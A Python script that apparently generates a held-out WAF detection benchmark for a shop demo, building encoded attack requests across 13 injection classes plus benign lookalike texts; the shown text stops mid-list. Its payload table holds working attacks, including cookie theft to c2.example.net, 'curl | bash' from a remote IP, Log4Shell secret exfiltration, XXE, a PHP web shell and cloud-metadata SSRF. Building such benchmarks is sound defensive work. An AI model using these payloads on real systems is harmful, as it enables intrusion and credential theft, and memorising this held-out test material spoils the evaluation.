"""A seventh, held-out corpus for `make eval-detection`, shaped like an
independent third-party WAF benchmark run against the demo (Envoy in front
of a shop): about 650 attack requests and about 200 benign ones. It was
written without reading the rules, the detectors, the documentation or
the reports of earlier runs, nor the payloads and texts of the other
corpora, and committed before its first run: that run measures how the
detection generalises.

Attacks: 55 new payloads of the 13 classes (sqli, xss, path_traversal,
cmdi, ldap, crlf, ssi, ssti, nosql, xxe, jndi, php, ssrf), 3 to 5 each,
varying the technique (SQLi error-based, boolean blind, time-based,
UNION with comment evasion, stacked; NoSQL operator objects and a `$where`
JS injection; XXE as whole documents with a file entity, an out-of-band
parameter entity, a php:// filter and XInclude; CR/LF as HTTP response
splitting and as e-mail header injection into a contact form). Each
payload goes to 6 of 11 placements, dealt from a per-class shuffle (so
every class reaches every placement), in 2 encodings each:

  query        a query-string value (NoSQL objects in `plain`: `password[$ne]=`)
  path         a path segment (SQLi: always /api/products/<payload>)
  form         an urlencoded form field (CR/LF mail payloads: the contact form)
  multipart    a multipart/form-data text field
  json         a top-level JSON value (NoSQL objects in `plain`: as structure)
  json_nested  a JSON value two or three objects deep (PATCH/PUT)
  xml          the text of an XML element (plain XML or SOAP); XXE in
               `plain` is the whole body
  header       a custom header (X-Filter, X-Tenant, X-Trace-Context,
               X-Forwarded-Host, X-Callback-Url, ...)
  cookie       a cookie value among ordinary ones
  user_agent   the User-Agent (whole, or appended to a browser's)
  referer      the Referer

Encodings are what the application sees after the placement's ordinary
decoding (as in generate.py): `plain`, `url` (percent-encoded once more),
`double_url`, `base64` (standard, padded), `base64url` (URL-safe alphabet,
no padding), `json_unicode` (every character a \\uXXXX escape; JSON only)
and `xml_entities` (every character a decimal character reference; XML
only). Each placement has its own encoding rotation; about a third of
the attacks are base64 or base64url. Header and cookie values send CR, LF
(and in cookies `;`) as %0D, %0A, %3B (generate.header_safe).

Benign: about 200 requests of 17 kinds, one per text written for this
file: searches made of SQL- and shell-like words, support messages,
blog comments and reviews with such words, developer-forum posts with
fenced code (SQL, shell, HTML with script, Jinja, Go, Rust...), short
code answers in forms, checkout addresses with apostrophes and non-Latin
scripts, support messages in 14 languages, JSON API calls (orders,
profile updates, pagination), XML (RSS, SOAP, an order, a sitemap), JWT
bearer calls, base64 image data URLs, long analytics cookies, multipart
uploads of text and CSV, GraphQL, benign custom header values and search
engine Referers.

Every payload and text was written for this file. Tokens, ids, cookies,
boundaries and images come from a fixed seed; the output is deterministic.

Usage: seventh_corpus.py OUT_FILE
"""
import json
import random
import sys
import urllib.parse
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import generate as g  # noqa: E402

SEED = 7707
HOST = g.HOST
PLACEMENTS_PER_PAYLOAD = 6
PLACEMENTS = ["query", "path", "form", "multipart", "json", "json_nested", "xml", "header", "cookie", "user_agent",
              "referer"]

# ---------------------------------------------------------------- attacks
#
# NoSQL payloads that are dicts are operator objects: sent as structure in
# `plain` where the placement has structure (JSON, bracketed form and query
# names), as their compact JSON text everywhere else.

ATTACKS = {
    "sqli": [
        "9' AND updatexml(1,concat(0x7e,(SELECT @@version),0x7e),1)-- -",
        "1 AND ASCII(SUBSTRING((SELECT password FROM users WHERE id=1),1,1))>77",
        "1) AND (SELECT 7261 FROM (SELECT(SLEEP(6)))QmWp) AND (4455=4455",
        "-7'/**/UnIoN/**/ALL/**/SeLeCt/**/null,concat_ws(0x3a,login,passwd),null/**/FrOm/**/customers#",
        "3';UPDATE accounts SET role='admin' WHERE email='eve@example.net';--",
    ],
    "xss": [
        "\"><svg/onload=confirm(document.domain)>",
        "<img src=x onerror=\"fetch('//c2.example.net/k?c='+document.cookie)\">",
        "javascript:alert(String.fromCharCode(88,83,83))",
        "<details open ontoggle=top['al'+'ert'](1)>",
        "';</script><script src=//xss.example.org/h.js></script>",
    ],
    "path_traversal": [
        "../../../../../../etc/passwd",
        "..\\..\\..\\..\\windows\\win.ini",
        "....//....//....//proc/self/environ",
        "..;/..;/..;/WEB-INF/web.xml",
    ],
    "cmdi": [
        "127.0.0.1;cat /etc/passwd",
        "localhost && curl -s http://203.0.113.77/s.sh | bash",
        "8.8.8.8$(sleep${IFS}7)",
        "x`nslookup $(whoami).oast.example.net`",
        "| ping -n 6 127.0.0.1 &",
    ],
    "ldap": [
        "*)(uid=*))(|(uid=*",
        "jdoe)(|(memberOf=cn=admins,ou=groups,dc=shop,dc=example)",
        "admin)(|(userPassword=*)",
        "x*))(|(objectClass=*",
    ],
    "crlf": [
        "/account\r\nSet-Cookie: session=attacker-fixed-4711; Path=/; HttpOnly",
        "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<h1>site moved</h1>",
        "jane@example.com\r\nBcc: list1@spam.example, list2@spam.example",
        "Order question\r\nCc: all-staff@shop.example\r\nX-Mailer: bulk\r\n\r\nClaim your prize at http://prize.example.net",
    ],
    "ssi": [
        "<!--#exec cmd=\"cat /etc/passwd\" -->",
        "<!--#include virtual=\"/../../.htpasswd\"-->",
        "<!--#echo var=\"DOCUMENT_ROOT\" --><!--#printenv -->",
    ],
    "ssti": [
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{['cat /etc/passwd']|filter('system')}}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"uname -a\") }",
        "#set($rt=$class.inspect(\"java.lang.Runtime\").type.getRuntime())$rt.exec(\"touch /tmp/pwn\")",
        "<%= File.read('/etc/passwd') %>",
    ],
    "nosql": [
        {"password": {"$ne": None}},
        {"username": {"$gt": ""}, "password": {"$gt": ""}},
        {"username": {"$regex": "^adm", "$options": "i"}},
        {"$where": "sleep(5000) || true"},
        "eve' || this.role == 'admin' || 'a'=='b",
    ],
    "xxe": [
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE order [\n  <!ENTITY xx SYSTEM \"file:///etc/passwd\">\n]>\n"
        "<order><note>&xx;</note></order>",
        "<?xml version=\"1.0\"?><!DOCTYPE data [<!ENTITY % dtd SYSTEM \"http://oob.example.net/evil.dtd\"> %dtd; %send;]>"
        "<data>1</data>",
        "<!DOCTYPE r [<!ENTITY f SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><r><q>&f;</q></r>",
        "<?xml version=\"1.0\"?><feed xmlns:xi=\"http://www.w3.org/2001/XInclude\">"
        "<xi:include parse=\"text\" href=\"file:///etc/hostname\"/></feed>",
    ],
    "jndi": [
        "${jndi:ldap://198.51.100.23:1389/Exploit}",
        "${${lower:j}${::-n}d${upper:i}:rm${::-i}://x.oast.example.net/o}",
        "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.leak.example.org}",
    ],
    "php": [
        "<?php system($_GET['c']); ?>",
        "php://filter/read=convert.base64-encode/resource=index.php",
        "a:1:{i:0;O:15:\"Shop\\CacheEntry\":1:{s:4:\"path\";s:15:\"../../shell.php\";}}",
        "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://2130706433:8080/admin/",
        "gopher://127.0.0.1:6379/_INFO%0d%0aQUIT%0d%0a",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    ],
}

# Per class: the query parameter, the body field, the query and path shapes,
# the form and JSON endpoints, two custom header names and a cookie name.
CTX = {
    "sqli": dict(qfield="id", field="order_id", query="/products?{}&currency=EUR", path="/api/products/{}",
                 form="/account/orders/lookup", json="/api/v2/orders/search", headers=["X-Filter", "X-Tenant"],
                 cookie="cart_id"),
    "xss": dict(qfield="q", field="comment", query="/search?{}&page=1", path="/blog/tag/{}",
                form="/blog/2025/03/spring-cleaning/comments", json="/api/v1/reviews",
                headers=["X-Display-Name", "X-Forwarded-Host"], cookie="recent_search"),
    "path_traversal": dict(qfield="file", field="template", query="/download?{}&inline=1", path="/static/docs/{}",
                           form="/admin/theme/preview", json="/api/v1/reports/render",
                           headers=["X-Asset-Path", "X-Original-Url"], cookie="theme_file"),
    "cmdi": dict(qfield="host", field="target", query="/tools/ping?{}&count=3", path="/api/diagnostics/{}/traceroute",
                 form="/admin/network/check", json="/api/v1/webhooks/test",
                 headers=["X-Trace-Context", "X-Device-Name"], cookie="last_host"),
    "ldap": dict(qfield="user", field="username", query="/directory/search?{}&scope=sub", path="/people/{}/vcard",
                 form="/sso/login", json="/api/v1/directory/lookup", headers=["X-Filter", "X-Remote-User"],
                 cookie="uid"),
    "crlf": dict(qfield="next", field="return_to", query="/logout?{}", path="/r/{}", form="/contact",
                 json="/api/v1/contact", headers=["X-Forwarded-Host", "X-Request-Source"], cookie="lang"),
    "ssi": dict(qfield="name", field="message", query="/guestbook?{}&view=latest", path="/pages/{}.shtml",
                form="/guestbook/sign", json="/api/v1/cards/preview", headers=["X-Client-Name", "X-Forwarded-Host"],
                cookie="greeting"),
    "ssti": dict(qfield="greeting", field="template", query="/cards/preview?{}&style=classic", path="/invite/{}",
                 form="/account/email-signature", json="/api/v1/notifications/templates",
                 headers=["X-Tenant", "X-Display-Name"], cookie="display_name"),
    "nosql": dict(qfield="filter", field="filter", query="/api/accounts?{}&limit=20", path="/api/users/{}",
                  form="/login", json="/api/v1/auth/login", headers=["X-Filter", "X-Query"], cookie="session_user"),
    "xxe": dict(qfield="data", field="document", query="/api/import?{}&format=xml", path="/feeds/{}",
                form="/admin/import", json="/api/v1/invoices/import", headers=["X-Metadata", "X-Trace-Context"],
                cookie="prefs"),
    "jndi": dict(qfield="username", field="username", query="/login?{}", path="/api/session/{}", form="/login",
                 json="/api/v1/auth/token", headers=["X-Api-Version", "X-Client-Id"], cookie="remember_me"),
    "php": dict(qfield="page", field="data", query="/index.php?{}", path="/modules/{}", form="/cart/restore",
                json="/api/v1/cart/restore", headers=["X-Plugin", "X-Session-Data"], cookie="cart_state"),
    "ssrf": dict(qfield="url", field="image_url", query="/api/fetch?{}", path="/proxy/{}",
                 form="/account/avatar/import", json="/api/v1/webhooks", headers=["X-Callback-Url", "X-Forwarded-Host"],
                 cookie="avatar_src"),
}

# Field overrides for single payloads: (class, payload number) -> field.
FIELD = {("crlf", 3): "email", ("crlf", 4): "subject", ("php", 2): "page", ("ssti", 5): "signature",
         ("nosql", 5): "username"}
# Query shapes for single payloads (the mail-header ones go to mail forms).
QUERY = {("crlf", 3): "/newsletter/subscribe?{}&list=weekly", ("crlf", 4): "/contact?{}&prefill=1"}

# Placements a payload always gets (the rest dealt from the class's shuffle).
FORCED = {("sqli", n): "path" for n in range(1, 6)}
FORCED.update({("xxe", n): "xml" for n in range(1, 5)})
FORCED.update({("crlf", 3): "form", ("crlf", 4): "form"})

# Each placement's encoding rotation; a payload takes the next two.
ENC_CYCLE = {
    "query": ["plain", "base64", "url", "base64url", "double_url", "base64", "plain"],
    "path": ["plain", "base64url", "url", "base64", "double_url"],
    "form": ["plain", "base64", "url", "double_url", "base64url"],
    "multipart": ["plain", "base64", "url", "base64url", "double_url"],
    "json": ["plain", "base64", "json_unicode", "url", "base64url", "json_unicode", "double_url"],
    "json_nested": ["plain", "json_unicode", "base64", "url", "base64url"],
    "xml": ["plain", "xml_entities", "base64", "url", "xml_entities", "double_url", "base64url"],
    "header": ["plain", "base64", "url", "base64url", "double_url", "base64", "plain"],
    "cookie": ["plain", "base64url", "url", "base64", "double_url"],
    "user_agent": ["plain", "url", "base64", "double_url", "plain", "base64url", "url"],
    "referer": ["plain", "double_url", "url", "base64url", "plain", "base64", "url"],
}

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.0.0 Safari/537.36 "
    "Edg/127.0.0.0",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.0.0 Mobile "
    "Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Mobile/15E148 Safari/604.1",
]
APP_UAS = ["ShopApp/6.3.1 (iPhone; iOS 17.5; Scale/3.00)", "ShopApp/6.3.0 (Android 14; SM-S918B)",
           "okhttp/4.12.0"]
LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.8,de;q=0.5", "fr-CH,fr;q=0.9,en;q=0.6", "ja-JP,ja;q=0.9,en;q=0.4",
         "es-ES,es;q=0.9", "pt-BR,pt;q=0.8,en-US;q=0.5"]


def encode(text: str, enc: str) -> str:
    """`text` as the application sees it in `enc` (json_unicode and
    xml_entities are applied by the placement, so `text` stays as it is)."""
    if enc == "base64url":
        return g.b64url(text.encode())
    if enc in ("json_unicode", "xml_entities"):
        return text
    return g.encode(text, enc)


json_unicode = g.json_unicode


def xml_entities(text: str) -> str:
    return "".join("&#%d;" % ord(c) for c in text)


def xml_text(text: str) -> str:
    """Element text that parses back to `text` (CR kept as a reference)."""
    return g.xml_escape(text).replace("\r", "&#13;")


def boundary(rng) -> str:
    if rng.random() < 0.5:
        return "----WebKitFormBoundary" + "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")
                                                  for _ in range(16))
    return "-" * 27 + "".join(rng.choice("0123456789") for _ in range(29))


def multipart(rng, uri, h, parts, method="POST"):
    """A multipart request; parts are (name, value) or (name, value, filename, content_type)."""
    b = boundary(rng)
    body = ""
    for p in parts:
        if len(p) == 2:
            body += f"--{b}\r\nContent-Disposition: form-data; name=\"{p[0]}\"\r\n\r\n{p[1]}\r\n"
        else:
            name, value, filename, ctype = p
            body += (f"--{b}\r\nContent-Disposition: form-data; name=\"{name}\"; filename=\"{filename}\"\r\n"
                     f"Content-Type: {ctype}\r\n\r\n{value}\r\n")
    body += f"--{b}--\r\n"
    return g.request(method, uri, h + [["Content-Type", f"multipart/form-data; boundary={b}"]], body)


def attack_headers(rng, accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"):
    return [["Host", HOST], ["User-Agent", rng.choice(BROWSER_UAS)], ["Accept", accept],
            ["Accept-Language", rng.choice(LANGS)], ["Accept-Encoding", "gzip, deflate, br"]]


def set_header(h, name, value):
    return [x for x in h if x[0].lower() != name.lower()] + [[name, value]]


SENTINEL = "\u0000seventh-sentinel\u0000"


def json_body(doc, text, enc) -> str:
    """`doc` (holding SENTINEL where the value goes) as JSON, the value `text` in `enc`."""
    s = json.dumps(doc, ensure_ascii=False)
    marker = json.dumps(SENTINEL, ensure_ascii=False)
    inner = json_unicode(text) if enc == "json_unicode" else json.dumps(encode(text, enc), ensure_ascii=False)[1:-1]
    return s.replace(marker, '"' + inner + '"')


def nested(shape: int, field, value, rng):
    if shape == 0:
        return {"order": {"id": rng.randint(10000, 99999), "shipping": {"method": "express", field: value}},
                "currency": "EUR"}
    if shape == 1:
        return {"data": {"type": "profile", "id": str(rng.randint(100, 9999)),
                         "attributes": {field: value, "locale": "en-GB"}}}
    return {"items": [{"sku": f"KT-{rng.randint(100, 999)}", "qty": 1, "options": {field: value, "gift": False}}],
            "coupon": None}


def place(rng, cls, n, payload, pl, enc, counter):
    """One request carrying payload `n` of `cls` in placement `pl`, encoding `enc`."""
    ctx = CTX[cls]
    field = FIELD.get((cls, n), ctx["field"])
    qfield = FIELD.get((cls, n), ctx["qfield"])
    obj = payload if isinstance(payload, dict) else None
    text = json.dumps(obj, separators=(",", ":")) if obj is not None else payload
    structured = obj is not None and enc == "plain"
    value = encode(text, enc)
    q = urllib.parse.quote
    h = attack_headers(rng)

    if pl == "query":
        pairs = list(g.bracketed("", obj)) if structured else [(qfield, value)]
        return g.request("GET", QUERY.get((cls, n), ctx["query"]).format(g.bracketed_query(pairs)), h)
    if pl == "path":
        return g.request("GET", ctx["path"].format(q(value, safe="")), h)
    if pl in ("form", "multipart"):
        if cls == "crlf":
            fields = [("name", "Dana Whitfield"), ("email", "dana.w@example.org"), ("subject", "Delivery time"),
                      ("message", "Hello, when will order 58123 ship?"), ("return_to", "/contact/thanks")]
        elif cls == "nosql":
            fields = [("username", "admin"), ("password", "hunter2"), ("filter", "active")]
        else:
            fields = [("csrf_token", g.b64url(rng.randbytes(24))), (field, "x"), ("locale", "en-GB")]
        if structured:
            keys = set(obj)
            fields = [f for f in fields if f[0] not in keys and f[0] != "filter"] + list(g.bracketed("", obj))
        else:
            fields = [(k, value if k == field else v) for k, v in fields]
            if field not in {k for k, _ in fields}:
                fields.append((field, value))
        if pl == "form":
            body = "&".join(f"{q(k, safe='[]$')}={urllib.parse.quote_plus(v)}" for k, v in fields)
            return g.request("POST", ctx["form"], h + [["Content-Type", "application/x-www-form-urlencoded"]], body)
        return multipart(rng, ctx["form"], h, fields)
    if pl in ("json", "json_nested"):
        h = set_header(h, "Accept", "application/json")
        if pl == "json":
            if cls == "nosql":
                doc = {"username": "admin", "password": "hunter2", "remember": True}
            else:
                doc = {"client": "web", field: SENTINEL, "page": 1}
            if structured:
                doc = {k: v for k, v in doc.items() if k not in obj}
                doc.update(obj)
                doc.pop("filter", None)
                body = json.dumps(doc, ensure_ascii=False)
            else:
                doc[field] = SENTINEL
                body = json_body(doc, text, enc)
            return g.request("POST", ctx["json"], h + [["Content-Type", "application/json"]], body)
        shape = counter % 3
        if structured:
            doc = nested(shape, "filter", obj, rng)
            body = json.dumps(doc, ensure_ascii=False)
        else:
            body = json_body(nested(shape, field, SENTINEL, rng), text, enc)
        method = "PATCH" if shape == 1 else "PUT"
        return g.request(method, ctx["json"], h + [["Content-Type", "application/json"]], body)
    if pl == "xml":
        if cls == "xxe" and enc == "plain":
            body = payload
        else:
            inner = xml_entities(text) if enc == "xml_entities" else xml_text(value)
            if counter % 2:
                body = ("<?xml version=\"1.0\" encoding=\"utf-8\"?>\n"
                        "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\">\n"
                        "  <soap:Body>\n    <UpdateRecord xmlns=\"urn:shop:records\">\n"
                        f"      <{field}>{inner}</{field}>\n      <channel>web</channel>\n"
                        "    </UpdateRecord>\n  </soap:Body>\n</soap:Envelope>")
                h = h + [["SOAPAction", "\"urn:shop:records#UpdateRecord\""]]
                ctype = "text/xml; charset=utf-8"
                return g.request("POST", "/soap/RecordService", h + [["Content-Type", ctype]], body)
            body = (f"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<request>\n  <account>{rng.randint(1000, 9999)}</account>\n"
                    f"  <{field}>{inner}</{field}>\n</request>")
        return g.request("POST", ctx["json"] + ".xml", h + [["Content-Type", "application/xml"]], body)
    if pl == "header":
        name = ctx["headers"][n % 2]
        return g.request("GET", "/account/overview", h + [[name, g.header_safe(value)]])
    if pl == "cookie":
        v = g.header_safe(value).replace(";", "%3B")
        cookie = (f"_ga=GA1.2.{rng.randint(10**8, 10**9)}.{rng.randint(1700000000, 1760000000)}; "
                  f"sessionid={rng.randbytes(16).hex()}; {ctx['cookie']}={v}; cookie_consent=accepted")
        return g.request("GET", "/account/overview", h + [["Cookie", cookie]])
    if pl == "user_agent":
        ua = g.header_safe(value)
        if counter % 2:
            ua = rng.choice(BROWSER_UAS) + " " + ua
        return g.request("GET", "/", set_header(h, "User-Agent", ua))
    if pl == "referer":
        return g.request("GET", "/products/kettles", h + [["Referer", g.header_safe(value)]])
    raise ValueError(pl)


def deal_placements(cls):
    """Per payload, PLACEMENTS_PER_PAYLOAD distinct placements from a cyclic per-class shuffle."""
    order = random.Random(f"{SEED}-{cls}").sample(PLACEMENTS, len(PLACEMENTS))
    slot = 0
    for n in range(1, len(ATTACKS[cls]) + 1):
        chosen = [order[(slot + k) % len(order)] for k in range(PLACEMENTS_PER_PAYLOAD)]
        slot += PLACEMENTS_PER_PAYLOAD
        forced = FORCED.get((cls, n))
        if forced and forced not in chosen:
            chosen[-1] = forced
        yield n, chosen


def attacks():
    rng = random.Random(SEED)
    position = {pl: 0 for pl in PLACEMENTS}
    out = []
    for cls, payloads in ATTACKS.items():
        for n, chosen in deal_placements(cls):
            payload = payloads[n - 1]
            for pl in chosen:
                cycle = ENC_CYCLE[pl]
                encs = []
                while len(encs) < 2:
                    e = cycle[position[pl] % len(cycle)]
                    position[pl] += 1
                    if e not in encs:
                        encs.append(e)
                if cls == "xxe" and pl == "xml" and "plain" not in encs:
                    encs[0] = "plain"
                for enc in encs:
                    r = place(rng, cls, n, payload, pl, enc, position[pl])
                    out.append({"id": f"seventh-{cls}-{n:02d}-{pl}-{enc}", "class": cls, "placement": pl,
                                "encoding": enc, **r})
    return out


# ---------------------------------------------------------------- benign
#
# Texts written for this file. Each kind builds one request per entry.

SEARCHES = [
    "drop leaf table oak", "select comfort mattress topper queen", "union jack cushion cover",
    "order by phone gift card", "sleep mask silk 2 pack", "cat tree for large cats", "script font wedding invitations",
    "delete key replacement keycap", "exec office chair lumbar support", "medical alert bracelet stainless",
    "update firmware tp-link router", "1 or 2 person tent", "c++ primer 5th edition", "men's 'classic fit' chinos",
    "kids' table and chairs set", "50% off sale & clearance", "<3 valentines mug", "usb-c hub | hdmi | 4k",
    "cat5e cable 10m", "where's my order 30-day return",
]

SUPPORT = [
    "Hi, I tried to update my delivery address but the page said my session had expired. Could you update it to "
    "12 Harbour Row and drop the old one from my account? Thanks!",
    "Please delete my account and all data where my e-mail appears. I'd rather not select each newsletter one by one.",
    "The union of the two discounts didn't apply: I had 10% from the newsletter or 1 free shipping voucher, and the "
    "checkout only took one of them.",
    "Our office orders by invoice; can someone in accounts exec the refund for PO 4471-B? It was placed twice.",
    "My cat knocked the parcel off the table and the glass cracked. Photos attached - what's the process for a "
    "replacement?",
    "I'm a developer and noticed your tracking page errors when the number has a leading zero; looks like it's parsed "
    "as an integer somewhere.",
    "The price alert I set never arrived. Sleep mode on my phone isn't the cause, other shops' mails come through.",
    "Could you cancel order #58213? I ordered the wrong size (M instead of L) -- or swap it if that's quicker.",
    "Where do I find the user manual for the kettle? The QR code on the box just shows a 404 page.",
    "Your site logged me out while I was in the middle of checkout, then charged me twice. Please refund one payment.",
    "I want to change my username; the form says 'select a different one' even though nobody has the name I want.",
    "Is there a way to order by total on the orders page? I need it for my expense report, sorted from highest.",
    "Hello, the script on the product page that shows sizes doesn't load on Firefox with strict tracking protection.",
    "The voucher code SPRING-25 says expired, but the e-mail says valid until 31/05. Can you help?",
    "Bought two of the same lamp; one has a loose switch. I'd like to return only that one, not both.",
    "Hi there, can you update the VAT number on invoice INV-2291 to DE 812 345 678? Our accountant needs it; thank you.",
]

COMMENTS = [
    "Great recipe! I swapped the butter for olive oil and it was still delicious; the kids asked for seconds.",
    "The part where you explain 'union' vs 'union all' finally made it click for me. Thank you!",
    "Tried the script from step 3 on my Mac and it worked; on Windows I had to run it in Git Bash.",
    "I don't agree that you should drop the old tables straight away - keep a backup for at least a week.",
    "My grandmother's version adds a pinch of cinnamon & a splash of rum :)",
    "Is there a printable version? I'd like to stick it on the fridge where I'll actually see it.",
    "Funny, my cat's name is Select. She only answers when there's tuna involved.",
    "Order by price doesn't work on mobile, it sorts alphabetically instead.",
    "2 cups flour, 1 cup sugar... or 1 cup honey if you prefer; both work fine.",
    "The alert sound in the app is way too loud at 6 am. Any way to change it?",
    "Good read. One nitpick: `rm -rf` in a tutorial without a warning makes me nervous.",
    "Waiting for part 2 <3",
]

REVIEWS = [
    (5, "Does exactly what it says", "Boils a full litre in under three minutes. The 'keep warm' mode is a nice touch; "
                                     "I'd buy it again."),
    (2, "Select button broke after a week", "The select/confirm button on the remote stopped working on day 8. "
                                            "Support were nice but slow."),
    (4, "Great, but the app needs an update", "Hardware is solid. The app's sleep timer resets whenever you update the "
                                              "firmware, which is annoying."),
    (3, "Fine for the price", "Not the quietest fan (about 45 dB on high) but it does the job; the 'turbo' setting is a "
                              "gimmick."),
    (5, "My cat approves", "Our cat sleeps in it 20 hours a day. Drop-in cushion is washable at 40 °C."),
    (1, "Wrong colour", "Ordered 'midnight blue', got black. The return label generator threw an error; had to call."),
    (4, "Union of style and comfort", "Cheesy title, I know. The chair is comfy for 8-hour days, armrests a bit wobbly."),
    (5, "Perfect for scripting desks", "I write shell scripts all day; this keyboard's tactile switches are lovely and "
                                       "the Delete key is where it should be."),
    (3, "OK; smaller than expected", "It's 30 x 20 cm, not 30 x 30 as the photo suggests. Still useful where space is "
                                     "tight."),
    (5, "Exec-level quality", "Bought it for the CEO's office; leather is thick and the stitching is perfect."),
    (2, "Alert: loud beeping", "Every time the timer ends it beeps 10 times and there's no way to turn it off."),
    (4, "Good value bundle", "Got the 3-pack (drop ship from the warehouse in Leeds); one arrived dented but works."),
    (5, "Works where others failed", "Finally a router that doesn't drop the connection every night at 2 am."),
    (4, "Nice; instructions so-so", "Assembly step 7 says 'insert bolt A where B is' - took me 10 min to work it out."),
]

FORUM_POSTS = [
    ("Postgres: UNION ALL much slower than two queries?",
     "I have two tables with the same shape and run:\n\n```sql\nSELECT id, total FROM orders WHERE status = 'open'\n"
     "UNION ALL\nSELECT id, total FROM archived_orders WHERE status = 'open'\nORDER BY total DESC\nLIMIT 50;\n```\n\n"
     "Each half alone takes 20 ms, together 2 s. EXPLAIN shows a seq scan on the archive. Any idea why?",
     ["postgresql", "performance"]),
    ("Bash loop skips the last line of my CSV",
     "This never prints the last SKU:\n\n```bash\nwhile IFS=, read -r sku qty; do\n  echo \"$sku -> $qty\"\n"
     "done < stock.csv\n```\n\nThe file has no trailing newline. What's the idiomatic fix?", ["bash"]),
    ("Why does my onclick alert fire on page load?",
     "```html\n<button id=\"buy\">Buy</button>\n<script>\n  document.getElementById('buy').onclick = alert('added');\n"
     "</script>\n```\n\nThe alert shows immediately instead of on click.", ["javascript", "dom"]),
    ("Django ORM: filter where the name contains an apostrophe",
     "```python\nCustomer.objects.filter(last_name__iexact=\"O'Neil\").order_by(\"-created\")\n```\n\n"
     "returns nothing although the row exists. Is the ORM escaping the quote twice?", ["django", "python"]),
    ("Safely deleting old log files with find",
     "Is this safe to put in cron?\n\n```sh\nfind /var/log/myapp -name '*.log' -mtime +14 -delete\n```\n\n"
     "I'm worried about symlinks.", ["linux", "cron"]),
    ("MySQL: UPDATE with JOIN touches the wrong rows",
     "```sql\nUPDATE products p\nJOIN suppliers s ON s.id = p.supplier_id\nSET p.active = 0\n"
     "WHERE s.country = 'DE';\n```\n\nAfter running it, products from AT were deactivated too.", ["mysql"]),
    ("Jinja template: loop with index",
     "In my Flask app:\n\n```jinja\n<ul>\n{% for item in cart.items %}\n  <li>{{ loop.index }}. {{ item.name|e }}</li>\n"
     "{% endfor %}\n</ul>\n```\n\nIs `loop.index` 0- or 1-based?", ["flask", "jinja2"]),
    ("curl returns 415 when posting JSON",
     "```bash\ncurl -X POST -H 'Accept: application/json' -d '{\"sku\":\"KT-200\",\"qty\":2}' \\\n"
     "  https://api.example.com/v1/cart\n```\n\nThe server answers 415 Unsupported Media Type.", ["curl", "http"]),
    ("Rust: borrow checker complains in my loop",
     "```rust\nfor line in reader.lines() {\n    let line = line?;\n    if line.starts_with('#') { continue; }\n"
     "    buf.push(line);\n}\n```\n\nerror[E0502]: cannot borrow `buf` as mutable...", ["rust"]),
    ("Go: exec.Command with a pipe",
     "```go\ncmd := exec.Command(\"sh\", \"-c\", \"ls -la | wc -l\")\nout, err := cmd.Output()\n```\n\n"
     "Works locally, but in the distroless image it fails with 'executable file not found'.", ["go", "docker"]),
    ("SQL Server: pausing between delete batches",
     "We purge old audit rows like this:\n\n```sql\nWHILE 1 = 1\nBEGIN\n  DELETE TOP (5000) FROM audit_log "
     "WHERE created < DATEADD(day, -90, GETDATE());\n  IF @@ROWCOUNT = 0 BREAK;\n  WAITFOR DELAY '00:00:02';\nEND\n```\n\n"
     "Is the delay even needed with RCSI on?", ["sql-server"]),
    ("Docker healthcheck using wget",
     "```dockerfile\nHEALTHCHECK --interval=30s CMD wget -qO- http://localhost:8080/health || exit 1\n```\n\n"
     "The container stays 'starting' forever.", ["docker"]),
    ("Rejecting uploaded names that climb out of the folder",
     "I check user-supplied file names like this:\n\n```python\nfrom pathlib import PurePosixPath\n"
     "if \"..\" in PurePosixPath(name).parts or name.startswith(\"/\"):\n    raise ValueError(\"bad file name\")\n```\n\n"
     "Is that enough, or should I resolve() and compare prefixes?", ["python", "security"]),
    ("Excel: count orders where status is 'shipped'",
     "```\n=COUNTIFS(B:B,\"shipped\",C:C,\">=\"&DATE(2025,1,1))\n```\n\nreturns 0, but I can see shipped rows.",
     ["excel"]),
]

SNIPPETS = [
    "Try `SELECT customer_id, COUNT(*) FROM orders GROUP BY customer_id HAVING COUNT(*) > 3` - HAVING does what your "
    "WHERE can't.",
    "You need quotes around the pattern: `grep -rn \"TODO\" src/ | cat -n`",
    "Use `document.querySelector('#total').textContent = sum` instead of innerHTML when the value comes from users.",
    "In PowerShell: `Get-ChildItem -Recurse *.tmp | Remove-Item -WhatIf` first, then drop the -WhatIf.",
    "```\nSELECT name FROM sqlite_master WHERE type='table' ORDER BY name;\n```\nlists every table.",
    "`tar -czf backup-$(date +%F).tgz /srv/www` and then copy it off the box with scp.",
    "For PHP, escape on output: `echo htmlspecialchars($row['title'], ENT_QUOTES, 'UTF-8');`",
    "`kubectl exec -it deploy/api -- sh -c 'env | sort'` shows what the pod really sees.",
    "`git log --oneline --since=\"2 weeks ago\" -- src/` narrows it down quickly.",
    "In Vue, `{{ order.total }}` in a template is escaped; `v-html` is the one to avoid with user input.",
]

ADDRESSES = [
